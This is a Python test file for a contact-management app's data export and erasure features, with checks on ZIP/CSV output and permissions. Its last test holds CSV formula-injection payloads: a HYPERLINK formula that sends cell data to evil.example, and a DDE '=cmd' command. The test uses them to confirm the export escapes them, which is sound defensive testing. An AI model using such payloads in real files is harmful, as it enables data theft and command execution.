"""Data subject rights: export everything (JSON and ZIP), erase without a trace."""

from __future__ import annotations

import csv
import importlib
import io
import sys
import uuid
import zipfile

import pytest

from core import db
from core.templating import RenderedMail

NOTE_INIT = """
from core import Module, hookimpl
from core import db


@hookimpl
def register_module():
    return Module(name="{name}", title="Notes about people")


@hookimpl
def register_piccolo_app():
    return "{pkg}.piccolo_app"


@hookimpl
async def person_export(person_id):
    rows = await db.fetch("SELECT text FROM {name}_note WHERE person_id = {{}}", person_id)
    return {{"notes": rows}}


@hookimpl
async def person_erase(person_id):
    await db.execute("DELETE FROM {name}_note WHERE person_id = {{}}", person_id)
"""
NOTE_TABLES = """
from piccolo.columns import Integer, Text
from piccolo.table import Table


class Note(Table, tablename="{name}_note"):
    person_id = Integer()
    text = Text()
"""
NOTE_APP = """
from pathlib import Path
from piccolo.conf.apps import AppConfig
from {pkg}.tables import Note

APP_CONFIG = AppConfig(app_name="{name}",
                       migrations_folder_path=str(Path(__file__).parent / "piccolo_migrations"),
                       table_classes=[Note], migration_dependencies=["core.piccolo_app"])
"""
NOTE_MIGRATION = """
from piccolo.apps.migrations.auto.migration_manager import MigrationManager

ID = "2026-01-02T00:00:00:000000"
VERSION = "1.38.0"
DESCRIPTION = "notes"


async def forwards():
    from {pkg}.tables import Note

    manager = MigrationManager(migration_id=ID, app_name="{name}", description=DESCRIPTION)

    async def create():
        await Note.create_table().run()

    manager.add_raw(create)
    return manager
"""


@pytest.fixture
def orga_plugins(tmp_path):
    token = uuid.uuid4().hex[:8]
    name, pkg = f"notes{token}", f"notes_pkg_{token}"
    folder = tmp_path / pkg
    (folder / "piccolo_migrations").mkdir(parents=True)
    fill = {"name": name, "pkg": pkg}
    (folder / "__init__.py").write_text(NOTE_INIT.format(**fill))
    (folder / "tables.py").write_text(NOTE_TABLES.format(**fill))
    (folder / "piccolo_app.py").write_text(NOTE_APP.format(**fill))
    (folder / "piccolo_migrations" / "__init__.py").write_text("")
    (folder / "piccolo_migrations" / f"{name}_0001.py").write_text(NOTE_MIGRATION.format(**fill))
    sys.path.insert(0, str(tmp_path))
    module = importlib.import_module(pkg)
    module.NOTE_TABLE = f"{name}_note"
    yield [module]
    sys.path.remove(str(tmp_path))


async def all_table_contents() -> str:
    if db.is_postgres():
        tables = [
            r["tablename"]
            for r in await db.fetch("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
        ]
    else:
        tables = [
            r["name"]
            for r in await db.fetch(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
            )
        ]
    dump = []
    for table in tables:
        dump += [repr(row) for row in await db.fetch(f'SELECT * FROM "{table}"')]
    return "\n".join(dump)


async def test_export_then_erase_leaves_no_trace(app, client, factory, orga_plugins):
    note_table = orga_plugins[0].NOTE_TABLE
    root = await factory.org("Bund", kind="federal")
    admin = await factory.user("admin", root["id"])
    created = await client.post(
        f"/api/orgs/{root['id']}/people/",
        headers=admin.headers,
        json={
            "first_name": "Ottilie",
            "last_name": "Zwiebelhuber",
            "email": "ottilie@zwiebel.example",
            "phones": ["0301234567"],
            "tags": ["Pflege"],
            "street": "Lauchweg 7",
            "consents": [
                {"channel": "email", "status": "granted", "source": "web_form", "wording": "Ja"}
            ],
        },
    )
    person = created.json()
    await db.execute(
        f"INSERT INTO {note_table} (person_id, text) VALUES ({{}}, {{}})",
        person["id"],
        "Ottilie Zwiebelhuber will Flyer verteilen",
    )
    await app.state.orga.mailer.enqueue(
        to_email="ottilie@zwiebel.example",
        to_name="Ottilie Zwiebelhuber",
        rendered=RenderedMail(subject="Hallo Ottilie", text="Hallo Frau Zwiebelhuber\n", html=None),
    )
    url = f"/api/orgs/{root['id']}/people/{person['id']}"

    export = await client.get(f"{url}/export", headers=admin.headers)
    assert export.status_code == 200
    data = export.json()
    assert data["person"]["last_name"] == "Zwiebelhuber"
    assert data["consent_history"][0]["wording"] == "Ja"
    assert data["phones"][0]["e164"] == "+49301234567"
    [module_name] = [k for k in data["modules"]]
    assert data["modules"][module_name] == {
        "notes": [{"text": "Ottilie Zwiebelhuber will Flyer verteilen"}]
    }
    archive = await client.get(f"{url}/export", params={"format": "zip"}, headers=admin.headers)
    assert archive.headers["content-type"] == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(archive.content)).namelist()
    assert {"person.csv", "phones.csv", "consent_history.csv", f"{module_name}/notes.csv"} <= set(
        names
    )

    before = await all_table_contents()
    assert "Zwiebelhuber" in before and "ottilie@zwiebel.example" in before
    erased = await client.delete(url, headers=admin.headers)
    assert erased.status_code == 204
    assert (await client.get(url, headers=admin.headers)).status_code == 404
    after = await all_table_contents()
    for trace in ("Zwiebelhuber", "Ottilie", "ottilie@zwiebel.example", "49301234567", "Lauchweg"):
        assert trace not in after, trace
    audit = await db.fetch(
        "SELECT action, object_id, detail FROM audit_log WHERE object_type = 'person' ORDER BY id"
    )
    assert [(a["action"], a["object_id"]) for a in audit][-2:] == [
        ("person.exported", person["id"]),
        ("person.erased", person["id"]),
    ]


async def test_erase_and_export_need_their_permissions(client, factory):
    root = await factory.org("Bund", kind="federal")
    organizer = await factory.user("organizer", root["id"])
    person = await factory.person(root["id"], last_name="Bleibt")
    url = f"/api/orgs/{root['id']}/people/{person['id']}"
    assert (await client.delete(url, headers=organizer.headers)).status_code == 403
    assert (await client.get(f"{url}/export", headers=organizer.headers)).status_code == 403
    other = await factory.org("Other", kind="federal")
    stranger = await factory.user("admin", other["id"])
    assert (await client.delete(url, headers=stranger.headers)).status_code == 404


async def test_the_export_documents_both_formats(client):
    """API clients (and the schema fuzzer) learn from the OpenAPI document that the export
    answers a ZIP with ``?format=zip``, not only JSON."""
    schema = (await client.get("/schema/openapi.json")).json()
    ok = schema["paths"]["/api/orgs/{org_id}/people/{person_id}/export"]["get"]["responses"]["200"]
    assert set(ok["content"]) == {"application/json", "application/zip"}
    assert ok["content"]["application/zip"]["schema"] == {"type": "string", "format": "binary"}


async def test_the_export_zip_keeps_formulas_from_running(client, factory):
    """Text that a spreadsheet program would run (``=``, ``+``, ``-``, ``@``, tab, CR first)
    is written with a leading apostrophe in every CSV of the ZIP, like the shipping list."""
    root = await factory.org("Bund", kind="federal")
    admin = await factory.user("admin", root["id"])
    hostile = {
        "first_name": '=HYPERLINK("https://evil.example/?"&B2,"Klick")',
        "last_name": "+491701234567",
        "street": "-2+3",
        "city": "@SUM(A1:A9)",
        "postal_code": "\t=1",
        "country": "\r=",
    }
    person = await factory.person(root["id"], **hostile)
    await db.execute(
        "INSERT INTO consent_event (person_id, channel, purpose, status, source, wording, at) "
        "VALUES ({}, 'email', 'general', 'granted', 'test', '=cmd|'' /C calc''!A0', {})",
        person["id"],
        person["created_at"],
    )
    url = f"/api/orgs/{root['id']}/people/{person['id']}/export"
    archive = await client.get(url, params={"format": "zip"}, headers=admin.headers)
    assert archive.status_code == 200
    files = zipfile.ZipFile(io.BytesIO(archive.content))
    cells = {
        name: [c for row in csv.reader(io.StringIO(files.read(name).decode())) for c in row]
        for name in files.namelist()
    }
    assert all(
        not c.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values() for c in v
    )
    for value in hostile.values():
        assert "'" + value in cells["person.csv"]
    assert "'=cmd|' /C calc'!A0" in cells["consent_history.csv"]
    assert str(person["id"]) in cells["person.csv"]  # numbers stay numbers
